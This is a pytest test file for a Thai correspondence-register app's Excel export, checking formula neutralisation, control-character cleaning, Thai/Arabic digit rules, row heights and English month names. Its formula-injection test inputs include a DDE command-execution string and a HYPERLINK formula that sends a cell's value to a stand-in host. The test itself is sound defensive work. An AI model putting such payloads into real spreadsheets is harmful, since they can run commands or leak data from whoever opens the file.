"""Issue 9 item 5, the writer: spreadsheets that stay data. Text is never a formula, stored
data never stops an export, one digits rule for every cell, rows tall enough for their text
when printed, English words in the English export."""

from __future__ import annotations

import datetime as dt
import math
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from reportlab.pdfbase.ttfonts import TTFont

from desktop_app.domain.classes import Secrecy, Urgency
from desktop_app.domain.incoming import IncomingRow
from desktop_app.domain.letters import forwarded_note
from desktop_app.domain.thai_dates import month_name
from desktop_app.reports.excel import (
    INCOMING_COLUMNS,
    MAX_CELL_TEXT,
    THAI_DIGITS_FORMAT,
    OutgoingRegisterLine,
    action_text,
    export_incoming_register,
    export_outgoing_register,
    looks_like_formula,
    sheet_text,
    text_lines,
)

FONTS = Path(__file__).resolve().parents[2] / "fonts"
# Texts a spreadsheet program would run as formulas if they were cells typed or pasted.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"ดูรายละเอียด")',
    "+66 81 234 5678",
    "-2+3",
    "@SUM(A1:A3)",
    "=cmd|' /C calc'!A0",
    "\uff1d\uff11\uff0b\uff11",  # full-width "=1+1"
    "\uff20SUM(1)",
    " =1+1",
]
THAI_MONTHS = [
    *(month_name(m) for m in range(1, 13)),
    *(month_name(m, abbreviated=True) for m in range(1, 13)),
]


def row(number: int, **overrides) -> IncomingRow:  # type: ignore[no-untyped-def]
    values = dict(
        id=number,
        receive_year=2569,
        receive_no=number,
        received_at=dt.datetime(2026, 3, 6, 16, 57),
        doc_no="มท 0810.2/ว 1089",
        doc_date=dt.date(2026, 3, 5),
        sender="กรมส่งเสริมการปกครองท้องถิ่น",
        to_text="ผู้ว่าราชการจังหวัด ทุกจังหวัด",
        subject=f"เรื่องที่ {number}",
        urgency=Urgency.NORMAL,
        secrecy=Secrecy.NORMAL,
        action_taken="",
        remarks="",
        work_group_name="",
        cancelled=False,
        cancel_reason="",
        attachment_count=0,
    )
    values.update(overrides)
    return IncomingRow(**values)


def outgoing_line(number: int, **overrides) -> OutgoingRegisterLine:  # type: ignore[no-untyped-def]
    values = dict(
        year=2569,
        number=number,
        doc_no=f"มส 0023.3/ว {number}",
        letter_date=dt.date(2026, 3, 6),
        sender="กลุ่มงานกฎหมาย",
        to_text="อำเภอ ทุกอำเภอ",
        subject=f"เรื่องที่ {number}",
        urgency=Urgency.NORMAL,
        sending_method="",
        recipients=7,
        acknowledged=3,
    )
    values.update(overrides)
    return OutgoingRegisterLine(**values)


def sheet_xml(path: Path) -> list[str]:
    """Every worksheet's XML as written."""
    with zipfile.ZipFile(path) as archive:
        return [
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        ]


def assert_no_formula(path: Path) -> None:
    """No cell of any sheet is a formula, as Excel reads the file: no <f> element."""
    for xml in sheet_xml(path):
        assert not re.search(r"<f[ >/]", xml), "a formula was written"


def body(sheet, first_row: int = 3) -> list[list[object]]:  # type: ignore[no-untyped-def]
    return [[cell.value for cell in line] for line in sheet.iter_rows(min_row=first_row)]


# -- text is never a formula ----------------------------------------------------------------
@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_a_text_cell_in_every_column(tmp_path, text):
    target = tmp_path / "f.xlsx"
    export_incoming_register(
        [
            row(
                1,
                doc_no=text,
                sender=text,
                to_text=text,
                subject=text,
                remarks=text,
                action_taken=text,
                work_group_name=text,
            )
        ],
        target,
        title=text,
    )
    assert_no_formula(target)
    sheet = openpyxl.load_workbook(target).active
    assert sheet["A1"].value == text and sheet["A1"].data_type == "s"
    for column in "DFGHKLM":  # ที่, จาก, ถึง, เรื่อง, กลุ่มงาน, การปฏิบัติ, หมายเหตุ
        cell = sheet[f"{column}3"]
        assert cell.value == text, column
        assert cell.data_type == "s", column
        # Marked as typed text (Excel's quote prefix): editing the cell keeps it text.
        assert cell.quotePrefix, column
    assert sheet["A3"].value == 1 and sheet["A3"].data_type == "n"


def test_formula_like_text_in_the_outgoing_register(tmp_path):
    target = tmp_path / "o.xlsx"
    lines = [
        outgoing_line(n + 1, subject=text, sender=text, to_text=text, remarks=text)
        for n, text in enumerate(FORMULA_LIKE)
    ]
    export_outgoing_register(lines, target, title="ทะเบียนหนังสือส่ง")
    assert_no_formula(target)
    sheet = openpyxl.load_workbook(target).active
    for text, line in zip(FORMULA_LIKE, sheet.iter_rows(min_row=3), strict=True):
        for cell in (line[3], line[4], line[5], line[8]):  # จาก, ถึง, เรื่อง, หมายเหตุ
            assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_ordinary_text_is_not_marked_and_excel_escapes_read_as_typed(tmp_path):
    target = tmp_path / "t.xlsx"
    subject = "รหัส _x0041_ ในระบบ"  # Excel would read _x0041_ as "A"
    export_incoming_register([row(1, subject=subject)], target, title="t")
    sheet = openpyxl.load_workbook(target).active
    assert not sheet["H3"].quotePrefix and not sheet["F3"].quotePrefix
    # Stored escaped, as ECMA-376 says a literal "_x0041_" is written.
    assert sheet["H3"].value == "รหัส _x005F_x0041_ ในระบบ"
    assert not looks_like_formula("ขอเชิญประชุม") and looks_like_formula("\t=1")


# -- stored data never stops an export ------------------------------------------------------
@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("ขอเชิญ\x1bประชุม", "ขอเชิญ ประชุม"),
        ("ขอเชิญ\x00ประชุม", "ขอเชิญ ประชุม"),
        ("ขอเชิญ\x0bประชุม", "ขอเชิญ\nประชุม"),
        ("ขอเชิญ\ufffeประชุม", "ขอเชิญ ประชุม"),  # openpyxl's own check misses U+FFFE
        ("ขอเชิญ\uffffประชุม\x7f", "ขอเชิญ ประชุม "),
        ("ขอเชิญ\x85ประชุม\x9b", "ขอเชิญ\nประชุม "),
        ("ขอ\u202eเชิญ", "ขอ เชิญ"),
    ],
)
def test_control_characters_never_stop_an_export(tmp_path, stored, shown):
    target = tmp_path / "c.xlsx"
    rows = [
        row(1),
        row(2, subject=stored, sender=stored, remarks=stored, doc_no=stored),
        row(3),
    ]
    assert export_incoming_register(rows, target, title=f"ทะเบียน{stored}") == 3
    sheet = openpyxl.load_workbook(target).active
    assert [line[7] for line in body(sheet)] == ["เรื่องที่ 1", shown, "เรื่องที่ 3"]
    assert sheet["F4"].value == shown and sheet["M4"].value == shown
    assert sheet["D4"].value == shown
    assert sheet["A1"].value == f"ทะเบียน{shown}"


def test_text_longer_than_a_cell_holds_is_cut_not_refused(tmp_path):
    target = tmp_path / "long.xlsx"
    subject = "ก" * (MAX_CELL_TEXT + 500)
    export_incoming_register([row(1, subject=subject)], target, title="t")
    value = openpyxl.load_workbook(target).active["H3"].value
    assert len(value) == MAX_CELL_TEXT and value.endswith("…")


# -- one digits rule ------------------------------------------------------------------------
def test_thai_digits_in_every_text_number_and_date_cell(tmp_path):
    target = tmp_path / "thai.xlsx"
    export_incoming_register(
        [
            row(
                1446,
                subject="ประชุมครั้งที่ 2/2569 เรื่อง COVID-19 ค่า PM2.5",
                sender="อำเภอ 1",
                remarks="โทร 053 611 111 หรือ saraban@dla.go.th",
                action_taken="แจ้ง 7 อำเภอ",
                doc_no="มส 0023.3/ว 12",
            )
        ],
        target,
        title="ทะเบียนหนังสือรับ ปี พ.ศ. 2569",
        digits="thai",
    )
    sheet = openpyxl.load_workbook(target).active
    values = body(sheet)[0]
    assert values[0] == 1446 and sheet["A3"].data_type == "n"  # still a number: sortable
    assert sheet["A3"].number_format.startswith(THAI_DIGITS_FORMAT)  # shown "๑๔๔๖"
    assert values[1:5] == ["๖ มี.ค. ๒๕๖๙", "๑๖:๕๗", "มส ๐๐๒๓.๓/ว ๑๒", "๕ มี.ค. ๒๕๖๙"]
    assert values[5] == "อำเภอ ๑"
    assert values[7] == "ประชุมครั้งที่ ๒/๒๕๖๙ เรื่อง COVID-19 ค่า PM2.5"
    assert values[11] == "แจ้ง ๗ อำเภอ"
    assert values[12] == "โทร ๐๕๓ ๖๑๑ ๑๑๑ หรือ saraban@dla.go.th"
    assert sheet["A1"].value == "ทะเบียนหนังสือรับ ปี พ.ศ. ๒๕๖๙"


def test_arabic_digits_everywhere_when_arabic_is_chosen(tmp_path):
    target = tmp_path / "arabic.xlsx"
    export_incoming_register(
        [row(7, subject="ประชุมครั้งที่ ๒/๒๕๖๙", doc_no="มท ๐๘๑๐.๒/ว ๑๐๘๙", sender="อำเภอ ๑")],
        target,
        title="ทะเบียน ๒๕๖๙",
        digits="arabic",
    )
    sheet = openpyxl.load_workbook(target).active
    values = body(sheet)[0]
    assert values[:8] == [
        7,
        "6 มี.ค. 2569",
        "16:57",
        "มท 0810.2/ว 1089",
        "5 มี.ค. 2569",
        "อำเภอ 1",
        "ผู้ว่าราชการจังหวัด ทุกจังหวัด",
        "ประชุมครั้งที่ 2/2569",
    ]
    assert not sheet["A3"].number_format.startswith(THAI_DIGITS_FORMAT)
    assert sheet["A1"].value == "ทะเบียน 2569"
    thai_digit = re.compile("[๐-๙]")
    for line in sheet.iter_rows():
        for cell in line:
            assert not (isinstance(cell.value, str) and thai_digit.search(cell.value))


def test_the_outgoing_register_follows_the_same_rule(tmp_path):
    target = tmp_path / "o.xlsx"
    export_outgoing_register(
        [outgoing_line(3, subject="แจ้ง 2 เรื่อง", remarks="ดู 1")],
        target,
        title="ทะเบียนหนังสือส่ง 2569",
        digits="thai",
    )
    sheet = openpyxl.load_workbook(target).active
    values = body(sheet)[0]
    assert values[0] == 3 and sheet["A3"].number_format.startswith(THAI_DIGITS_FORMAT)
    assert values[1:3] == ["มส ๐๐๒๓.๓/ว ๓", "๖ มี.ค. ๒๕๖๙"]
    assert values[5] == "แจ้ง ๒ เรื่อง" and values[6] == "ตอบรับแล้ว ๓ จาก ๗ ราย"
    assert values[8] == "ดู ๑"


# -- rows tall enough to print their text ---------------------------------------------------
def _needed_lines(text: str, width_units: float, size: float = 14) -> int:
    """Lines ``text`` takes in TH Sarabun New at ``size`` points in a column ``width_units``
    wide, measured with the bundled Laksaman (TH Sarabun New's outlines drawn 1.5 times
    larger per em: its advances divided by 1.5 are TH Sarabun New's)."""
    font = TTFont("LaksamanForWidths", str(FONTS / "Laksaman.ttf"))
    width_pt = font.stringWidth(text, size) / 1.5
    usable_pt = (width_units * 7 - 5) * 72 / 96
    return math.ceil(width_pt / usable_pt)


def test_rows_grow_to_fit_long_subjects(tmp_path):
    long_subject = (
        "ขอความร่วมมือประชาสัมพันธ์โครงการส่งเสริมการเรียนรู้ด้านการบริหารจัดการขยะมูลฝอย"
        "ชุมชนขององค์กรปกครองส่วนท้องถิ่น ประจำปีงบประมาณ พ.ศ. 2569 และการรายงานผล"
        "การดำเนินงานตามแผนปฏิบัติการป้องกันและแก้ไขปัญหาไฟป่าและหมอกควันภาคเหนือ "
    ) * 3
    target = tmp_path / "rows.xlsx"
    export_incoming_register(
        [row(1), row(2, subject=long_subject), row(3, remarks="หนึ่ง\nสอง\nสาม\nสี่")],
        target,
        title="t",
    )
    sheet = openpyxl.load_workbook(target).active
    heights = {n: sheet.row_dimensions[n].height for n in (3, 4, 5)}
    assert all(height is not None for height in heights.values())
    subject_width = INCOMING_COLUMNS[7].width
    needed = _needed_lines(long_subject, subject_width)
    assert needed >= 4  # the example is long enough to matter
    # Tall enough for the subject at the font's real widths, one 14 pt line at least 18.2 pt
    # (TH Sarabun New's line: win ascent + descent = 1.301 em).
    assert heights[4] >= needed * 14 * 1.301
    assert heights[4] > heights[3] and heights[5] >= 4 * 14 * 1.301
    assert sheet["H4"].alignment.wrap_text
    # Not absurdly tall either: at most twice what the text needs.
    assert heights[4] <= 2 * needed * 14 * 1.35 + 10


def test_text_lines_counts_marks_as_no_width():
    marks = "ที่นี่" * 20  # 120 code points, 80 of them spacing
    plain = "กขค" * 40  # 120 spacing characters
    assert text_lines(marks, 20) < text_lines(plain, 20)
    assert text_lines("ก\nข\nค", 55) == 3 and text_lines("", 10) == 1


# -- English words in the English export ----------------------------------------------------
def test_the_english_export_has_no_thai_month_names(tmp_path):
    action = "แจ้งแล้ว; " + forwarded_note("มส 0023.3/ว 1", dt.date(2026, 3, 6))
    target = tmp_path / "en.xlsx"
    export_incoming_register(
        [row(1, action_taken=action, received_at=dt.datetime(2026, 12, 31, 8, 5))],
        target,
        title="Incoming register, BE 2569",
        lang="en",
    )
    sheet = openpyxl.load_workbook(target).active
    values = body(sheet)[0]
    assert values[1] == "31 Dec 2569" and values[4] == "5 Mar 2569"
    assert values[11] == "แจ้งแล้ว; forwarded as มส 0023.3/ว 1 dated 6 Mar 2569"
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                assert not any(month in cell.value.split() for month in THAI_MONTHS), cell.value
    # The Thai export keeps the note as it was written.
    assert action_text(action, "th") == action


def test_sheet_text_applies_one_rule():
    assert sheet_text("ที่ 1\x1b2", "thai") == "ที่ ๑ ๒"
    assert sheet_text("ปี ๒๕๖๙\r\nบรรทัดสอง", "arabic") == "ปี 2569\nบรรทัดสอง"
